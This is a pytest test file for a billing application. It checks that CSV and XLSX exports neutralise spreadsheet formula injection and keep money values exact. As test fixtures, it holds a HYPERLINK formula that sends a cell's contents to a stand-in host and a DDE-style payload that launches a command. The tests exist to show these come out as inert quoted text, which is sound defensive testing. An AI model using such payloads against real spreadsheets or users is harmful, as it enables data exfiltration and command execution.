"""Every tabular export (CSV and XLSX) goes through ``cambill.core.tabular``: a
hostile name typed on the public sign-up form comes out neutralised, never as a
live formula, and money is written exactly (no float, no ``3E+1``; a negative
amount stays a number)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
import time_machine
from openpyxl import load_workbook

from cambill.core.access import SYSTEM
from cambill.core.tabular import Money, csv_text, plain, xlsx_bytes
from tests.conftest import utc
from tests.invoicing.helpers import bill, camera, local, retail
from tests.referrals.helpers import chain, issue, programme

pytestmark = pytest.mark.django_db

BOG = "America/Bogota"
NOW = utc(2026, 4, 5, 12)
EVIL_ACCOUNT = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
EVIL_AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = (EVIL_ACCOUNT, EVIL_AGENT)


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def xlsx_all(body: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(body))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_csv_safe(text: str) -> list[list[str]]:
    rows = csv_cells(text)
    flat = [v for r in rows for v in r]
    for evil in HOSTILE:
        if evil in text:
            assert "'" + evil in flat, evil
    assert not [v for v in flat if v.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [v for v in flat if "E+" in v or "e+" in v]
    return rows


def assert_xlsx_safe(body: bytes) -> list[Any]:
    cells = xlsx_all(body)
    assert not [c for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return cells


@pytest.fixture
def hostile(world):  # type: ignore[no-untyped-def]
    """The worked world with a hostile account name (as typed on the sign-up form)
    and a hostile agent name, billed for March and issued."""
    from cambill.clouds.models import Account
    from cambill.referrals.models import Agent

    t = world.clouds["telenet"]
    Account.objects.filter(pk=world.accounts["acme"].pk).update(name=EVIL_ACCOUNT)
    c = chain(world)
    Agent.objects.filter(pk=world.agents["agent1"].pk).update(name=EVIL_AGENT)
    c["agent1"].refresh_from_db()
    camera(t, "H1", world.accounts["acme"], "HOME3", local(BOG, 2026, 3, 1))
    programme(t, base="issued")
    with time_machine.travel(NOW, tick=False):
        run = bill(t, "2026-03", NOW)
        issue(retail(t, "2026-03", "acme"), NOW)
    world.run = run
    world.chain = c
    return world


def test_commission_statement_csv_and_xlsx(hostile) -> None:  # type: ignore[no-untyped-def]
    from cambill.referrals.exports import statement_csv, statement_xlsx
    from cambill.referrals.selectors import statement_for

    st = statement_for(hostile.chain["agent1"], "2026-03")
    rows = assert_csv_safe(statement_csv(st))
    assert rows[0] == ["Commission statement", "agent1", "'" + EVIL_AGENT, "2026-03", "USD"]
    acme = next(r for r in rows if r and r[0] == "acme")
    assert acme[1] == "'" + EVIL_ACCOUNT
    assert acme[5:] == ["3.00", "0.00", "0.30", "0.00"]
    assert ["Total due", "0.30"] in rows and ["Paid out", "0.00"] in rows

    cells = assert_xlsx_safe(statement_xlsx(st))
    assert "'" + EVIL_ACCOUNT in [c.value for c in cells]
    total = next(c for c in cells if c.value == "Total due")
    amount = total.parent.cell(row=total.row, column=2)
    assert (amount.data_type, amount.value, amount.number_format) == ("n", 0.3, "#,##0.00")


def test_payouts_due_csv(hostile) -> None:  # type: ignore[no-untyped-def]
    from cambill.referrals.exports import due_payouts_csv
    from cambill.referrals.selectors import due_payouts

    t = hostile.clouds["telenet"]
    rows = assert_csv_safe(due_payouts_csv(due_payouts(actor=SYSTEM, cloud=t, period="2026-03")))
    assert rows[1] == ["agent1", "'" + EVIL_AGENT, "", "2026-03", "USD", "0.30"]


def test_gateway_charges_csv(hostile) -> None:  # type: ignore[no-untyped-def]
    from cambill.payments.gateways.export import EXPORT_FIELDS, charges_export, rows_to_csv

    t = hostile.clouds["telenet"]
    rows = charges_export(actor=hostile.actor("caccountant"), cloud=t, period="2026-03")
    out = assert_csv_safe(rows_to_csv(rows, EXPORT_FIELDS))
    acme = next(r for r in out if r[1] == "acme")
    assert acme[2:5] == ["'" + EVIL_ACCOUNT, "3.57", "USD"]


def test_bill_run_csv_and_xlsx(hostile) -> None:  # type: ignore[no-untyped-def]
    from cambill.reports.billrun import bill_run_csv, bill_run_report, bill_run_xlsx

    t = hostile.clouds["telenet"]
    report = bill_run_report(actor=hostile.actor("cadmin"), cloud=t, run=hostile.run)
    rows = assert_csv_safe(bill_run_csv(report))
    acme = next(r for r in rows if r[2] == "acme")
    assert acme[3] == "'" + EVIL_ACCOUNT and acme[7:12] == ["3.00", "0.00", "3.00", "0.57", "3.57"]
    cells = assert_xlsx_safe(bill_run_xlsx(report))
    assert "'" + EVIL_ACCOUNT in [c.value for c in cells]
    money = [c for c in cells if c.number_format == "#,##0.00"]
    assert money and all(c.data_type == "n" for c in money)


def test_usage_report_csv_and_xlsx(hostile) -> None:  # type: ignore[no-untyped-def]
    from cambill.reports.export import report_csv, report_xlsx
    from cambill.reports.usage import usage_report

    t = hostile.clouds["telenet"]
    report = usage_report(
        actor=hostile.actor("cadmin"),
        cloud=t,
        date_from=date(2026, 3, 1),
        date_to=date(2026, 3, 31),
    )
    for labelled in (False, True):
        rows = assert_csv_safe(report_csv(report, labelled=labelled))
        assert any(r[2] == "'" + EVIL_ACCOUNT for r in rows)
        cells = assert_xlsx_safe(report_xlsx(report, labelled=labelled))
        assert "'" + EVIL_ACCOUNT in [c.value for c in cells]


def test_list_page_exports(hostile) -> None:  # type: ignore[no-untyped-def]
    from django.test import Client

    c = Client()
    c.force_login(hostile.users["cadmin"])
    for path in ("accounts", "invoices"):
        r = c.get(f"/clouds/telenet/{path}/?_export=csv")
        assert r.status_code == 200, path
        text = b"".join(r.streaming_content).decode()
        rows = assert_csv_safe(text)
        assert path != "accounts" or rows[1][:2] == ["acme", "'" + EVIL_ACCOUNT]
        r = c.get(f"/clouds/telenet/{path}/?_export=xlsx")
        assert r.status_code == 200, path
        assert_xlsx_safe(r.content)


@pytest.mark.parametrize(
    ("cell", "text", "number", "fmt"),
    [
        (Money(Decimal("-10"), "USD"), "-10.00", Decimal("-10.00"), "#,##0.00"),
        (Money(Decimal("3E+1"), "USD"), "30.00", Decimal("30.00"), "#,##0.00"),
        (Money(Decimal("1.2345"), "IQD"), "1.235", Decimal("1.235"), "#,##0.000"),
        (Money(Decimal("1E+3"), "JPY"), "1000", Decimal("1000"), "#,##0"),
        (Decimal("1E+2"), "100", Decimal("100"), "#,##0"),
        ("-10.00", "'-10.00", None, "General"),
        ("=1+1", "'=1+1", None, "General"),
        ("+1", "'+1", None, "General"),
        ("@x", "'@x", None, "General"),
        ("\tx", "'\tx", None, "General"),
        ("\rx", "'\rx", None, "General"),  # openpyxl writes CR as &#13; through lxml
        ("a=b", "a=b", None, "General"),
    ],
)
def test_one_cell_in_csv_and_xlsx(cell, text, number, fmt) -> None:  # type: ignore[no-untyped-def]
    assert csv_cells(csv_text(["h"], [[cell]]))[1] == [text]
    ws = load_workbook(io.BytesIO(xlsx_bytes(["h"], [[cell]]))).active
    c = ws.cell(row=2, column=1)
    if number is None:
        assert (c.data_type, c.value) == ("s", text)
    else:
        assert c.data_type == "n" and Decimal(str(c.value)) == number
    assert c.number_format == fmt


def test_control_characters_cannot_hide_a_formula_in_xlsx() -> None:
    ws = load_workbook(io.BytesIO(xlsx_bytes(["h"], [["\x01=HYPERLINK(1)"]]))).active
    assert (ws["A2"].data_type, ws["A2"].value) == ("s", "'=HYPERLINK(1)")
    assert plain(Decimal("-1.03")) == Decimal("-1.03")
